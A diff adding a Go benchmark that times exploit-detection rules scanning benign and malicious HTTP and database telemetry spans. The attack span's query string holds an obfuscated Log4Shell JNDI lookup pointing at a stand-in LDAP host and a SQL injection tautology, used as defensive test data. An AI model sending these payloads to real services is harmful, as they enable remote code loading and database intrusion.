@@ -1,0 +1,50 @@
+package detect
+
+import (
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/evidentsec/evident/internal/telemetry"
+)
+
+// BenchmarkRulesScan measures exploit rule evaluation per span on
+// realistic benign server spans (the common case) and on attacks.
+func BenchmarkRulesScan(b *testing.B) {
+	rules := mustRules(b)
+	benign := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /products/{id}", Attrs: telemetry.Attrs{
+		HTTPMethod: "GET", HTTPRoute: "/products/{id}", URLPath: "/products/42", URLQuery: "currency=EUR&ref=home_page",
+		UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+		RequestHeaders: map[string]string{"accept": "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "x-request-id": "5d1f6c2e-3a8b-4f5e-9c1d-7e2b4a6f8c0d"},
+	}}
+	attack := benign
+	attack.Attrs.URLQuery = "q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx.example%2Fa%7D&id=1%27%20OR%20%271%27%3D%271"
+	client := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindClient, Name: "SELECT", Attrs: telemetry.Attrs{
+		DBSystem: "postgresql", DBQueryText: "SELECT id, name, price FROM products WHERE id = $1 AND deleted_at IS NULL"}}
+	for _, bc := range []struct {
+		name string
+		sp   *telemetry.Span
+	}{{"benign-server", &benign}, {"attack-server", &attack}, {"db-client", &client}} {
+		b.Run(bc.name, func(b *testing.B) {
+			b.ReportAllocs()
+			cpu0 := cpuTime()
+			for b.Loop() {
+				rules.Scan(bc.sp, func(Hit) {})
+			}
+			// CPU time, not wall time: on a shared machine the wall
+			// clock measures the neighbours too.
+			cpu := (cpuTime() - cpu0).Seconds()
+			b.ReportMetric(cpu*1e9/float64(b.N), "cpu-ns/span")
+			b.ReportMetric(float64(b.N)/cpu, "spans/cpu-s")
+		})
+	}
+}
+
+// cpuTime is the CPU time the process used so far.
+func cpuTime() time.Duration {
+	var ru syscall.Rusage
+	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
+		return 0
+	}
+	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
+}
